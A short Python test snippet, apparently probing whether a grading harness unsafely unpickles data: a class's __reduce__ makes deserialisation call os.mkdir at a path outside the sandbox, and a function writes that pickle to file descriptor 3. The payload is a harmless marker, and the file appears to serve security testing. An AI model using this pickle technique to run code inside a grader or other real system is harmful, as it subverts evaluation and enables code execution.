"""Success: a pickle on the channel is executed by the grader."""
# %%
import os
import pickle


class Run:
    def __reduce__(self):
        return os.mkdir, (OUTSIDE + "/from-a-pickle",)
# %% f
def f(x):
    os.write(3, pickle.dumps(Run()))
    return Run()
